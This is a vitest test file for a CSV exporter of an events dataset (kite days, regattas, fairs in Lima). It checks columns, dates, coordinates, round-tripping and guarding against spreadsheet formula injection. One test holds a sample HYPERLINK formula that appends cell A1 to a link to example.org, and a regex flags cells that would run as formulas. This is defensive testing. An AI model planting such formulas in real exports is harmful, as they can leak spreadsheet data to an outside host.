import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { BETWEEN, COLUMNS, csv } from '../../../src/model/formats/csv';
import { unguarded } from '../../../src/model/formats/guard';
import { curation } from '../../fixtures/curation';
import { readCsv as readStrictly } from './read-csv';
import { everythingIn, kites, real, SITE } from './selections';

/** Every file is read twice: by RFC 4180 to the letter, and by a program that others use. Both see the same. */
function readCsv(text: string): Record<string, string>[] {
  const read = readStrictly(text);
  expect(parse(text, { bom: true, columns: true, record_delimiter: '\r\n' })).toEqual(read);
  return read;
}

const rows = (text: string) => new Map(readCsv(text).map((row) => [row.id!, row]));
const table = rows(csv(kites('en', SITE)));

test('the columns and their order are a promise', () => {
  expect(csv(kites()).split('\r\n')[0]).toBe(
    '\uFEFFid,title,when,start,end,date_kind,precision,qualifier,date_words,category,category_label,' +
      'scope,status,place_ids,place_names,place_roles,where,where_note,latitude,longitude,radius_km,' +
      'exactness,summary,source_ids,source_names,source_addresses,address,language,dataset,version,' +
      'licence,licence_address,credit',
  );
});

test('an event is one row', () => {
  expect(table.get('kite-day')).toEqual({
    id: 'kite-day',
    title: 'The feast kite-day',
    when: '2006-07-19',
    start: '2006-07-19',
    end: '2006-07-19',
    date_kind: 'once',
    precision: 'day',
    qualifier: '',
    date_words: 'on 19 July 2006',
    category: 'feasts',
    category_label: 'Feasts',
    scope: 'article',
    status: 'confirmed',
    place_ids: 'lima | ica',
    place_names: 'Lima | Ica',
    place_roles: 'scene | named',
    where: 'A beach in Lima',
    where_note: 'Position not checked: somewhere in the city.',
    latitude: '-12.04318',
    longitude: '-77.02824',
    radius_km: '18',
    exactness: 'representative point',
    summary: 'People met for kite-day.',
    source_ids: 'captain | almanac | gazette',
    source_names: 'the captain | the almanac | the gazette',
    source_addresses: ' |  | https://example.org/kites',
    address: 'https://example.org/lima-cable/events/kite-day/',
    language: 'en',
    dataset: 'Kites and books',
    version: '2020-06-30',
    licence: 'CC BY 4.0',
    licence_address: 'https://creativecommons.org/licenses/by/4.0/',
    credit: 'The testers. Kites and books, 2020-06-30. CC BY 4.0',
  });
});

describe('a date is given by its first and last day, as stated', () => {
  test.each([
    ['regatta', '2009-11-05', '2009-11-06', 'span', 'day', ''],
    ['tide-month', '2009-02-01', '2009-02-28', 'once', 'month', ''],
    ['tide-count', '2008-01-01', '2008-12-31', 'once', 'year', 'approximate'],
    ['poster', '2011-02-18', '2011-02-18', 'once', 'day', 'uncertain'],
    ['lost-kite', '2006-11-21', '2008-09-28', 'between', 'day', ''],
    ['long-fair', '', '1995-12-31', 'span', 'year', ''],
    ['new-fair', '2012-01-01', '', 'span', 'year', ''],
  ])('%s', (id, start, end, kind, precision, qualifier) => {
    expect(table.get(id)).toMatchObject({ start, end, date_kind: kind, precision, qualifier });
  });

  test('years before our era keep their sign, as text', () => {
    const c = curation();
    c.events[1]!.when = '-0043-03-15';
    const row = rows(csv(everythingIn(c, 'en'))).get('regatta')!;
    expect([row.start, unguarded(row.start!)]).toEqual(["'-0043-03-15", '-0043-03-15']);
  });
});

describe('coordinates are given for one city, district or point, and nothing larger', () => {
  test.each([
    ['book-week', '-12.1494', '2', 'representative point'],
    ['verdict', '-12.04318', '', 'verified point'],
    // The position of an address is not checked: the city stands for it.
    ['poster', '-12.04318', '18', 'representative point'],
    ['tide-month', '', '', 'country or region'],
    ['kite-year', '', '', 'country or region'],
    ['two-countries', '', '', 'country or region'],
    ['about-lima', '', '', 'concerns places only'],
    ['at-sea', '', '', 'not placed'],
    ['label-only', '', '', 'not placed'],
  ])('%s', (id, latitude, radius_km, exactness) => {
    expect(table.get(id)).toMatchObject({ latitude, radius_km, exactness });
  });

  test('of two cities neither is chosen', () => {
    const c = curation();
    c.events[1]!.places = [
      { place: 'lima', role: 'scene' },
      { place: 'ica', role: 'scene' },
    ];
    expect(rows(csv(everythingIn(c, 'en'))).get('regatta')).toMatchObject({
      latitude: '',
      longitude: '',
      radius_km: '',
      exactness: 'representative points',
    });
  });
});

test('a site without an address leaves its column empty', () => {
  for (const site of [undefined, 'file:///lima/', '']) {
    for (const row of readCsv(csv(kites('es', site)))) expect(row.address).toBe('');
  }
});

/** A dataset whose first event has this title and summary. */
function titled(title: string, summary = 'People met.') {
  const selection = kites();
  const [first, ...others] = selection.events;
  return { ...selection, events: [{ ...first!, title, summary }, ...others] };
}

test('a formula in a title stays text', () => {
  const formula = '=HYPERLINK("http://example.org?"&A1,"kites")';
  const [row] = readCsv(csv(titled(formula)));
  expect(row!.title).toBe(`'=HYPERLINK("http://example.org?"&A1,"kites")`);
  expect(unguarded(row!.title!)).toBe(formula);
});

test('any text is read back as it was, whatever commas, quotes and breaks it holds', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc
      .array(fc.constantFrom(...'=+-@,;"\t\r\n \'a|'.split('')), { maxLength: 15 })
      .map((signs) => signs.join('')),
  );
  fc.assert(
    fc.property(text, text, (title, summary) => {
      const selection = titled(title, summary);
      const read = readStrictly(csv(selection));
      expect(unguarded(read[0]!.title!)).toBe(title);
      expect(unguarded(read[0]!.summary!)).toBe(summary);
      expect(read).toHaveLength(selection.events.length);
    }),
    { numRuns: 300 },
  );
}, 60_000);

test('another program reads the same from it', () => {
  const text = fc.array(fc.constantFrom(...'=a,;"\t\r\n \''.split('')), { maxLength: 12 });
  fc.assert(
    fc.property(text, text, (title, summary) => {
      readCsv(csv(titled(title.join(''), summary.join(''))));
    }),
    { numRuns: 40 },
  );
});

const runs = (cell: string) =>
  /^[\s\p{C}]*[=+\-@＝＋－＠]/u.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);

test('no cell would run, even to a program that splits at other signs or minds no quotation marks', () => {
  const selection = titled('a";=1+1,"@x', '\t=1\n+1;-2|@3');
  const text = csv(selection);
  for (const row of readCsv(text)) {
    for (const cell of Object.values(row)) expect(runs(cell), cell).toBe(false);
  }
  for (const separators of [/[,\r\n]/, /[;\r\n]/, /[\t\r\n]/, /[,;|"\t\r\n]/]) {
    for (const cell of text.split(separators)) expect(runs(cell), cell).toBe(false);
  }
});

describe.each(['en', 'es'] as const)('the real dataset in %s', (language) => {
  const selection = everythingIn(real, language, SITE);
  const text = csv(selection);
  const read = readCsv(text);

  test('comes back with the same events, dates and places', () => {
    expect(
      read.map((row) => ({
        id: row.id,
        title: unguarded(row.title!),
        when: unguarded(row.when!),
        places: row
          .place_ids!.split(BETWEEN)
          .filter(Boolean)
          .map((place, i) => ({ place, role: row.place_roles!.split(BETWEEN)[i] })),
        sources: row.source_ids!.split(BETWEEN),
      })),
    ).toEqual(
      selection.events.map((event) => ({
        id: event.id,
        title: event.title,
        when: event.when.edtf,
        places: event.places.map(({ place, role }) => ({ place, role })),
        sources: [...new Set(event.accounts.map(({ source }) => source))],
      })),
    );
  });

  test('lists keep their entries apart', () => {
    const names = new Map(selection.dataset.sources.map(({ id, name }) => [id, name]));
    for (const row of read) {
      const ids = row.source_ids!.split(BETWEEN);
      expect(row.source_names!.split(BETWEEN)).toEqual(ids.map((id) => names.get(id)));
      expect(row.source_addresses!.split(BETWEEN)).toHaveLength(ids.length);
    }
  });

  test('needs no apostrophe: every cell reads as it was written', () => {
    for (const row of read) {
      for (const column of COLUMNS) {
        expect(unguarded(row[column]!), `${row.id} ${column}`).toBe(row[column]);
      }
    }
  });

  test('carries licence and version in every row', () => {
    for (const row of read) {
      expect(row).toMatchObject({
        dataset: real.dataset.title[language],
        version: real.dataset.version,
        licence: real.dataset.licence.name,
        licence_address: real.dataset.licence.address,
      });
    }
  });
});
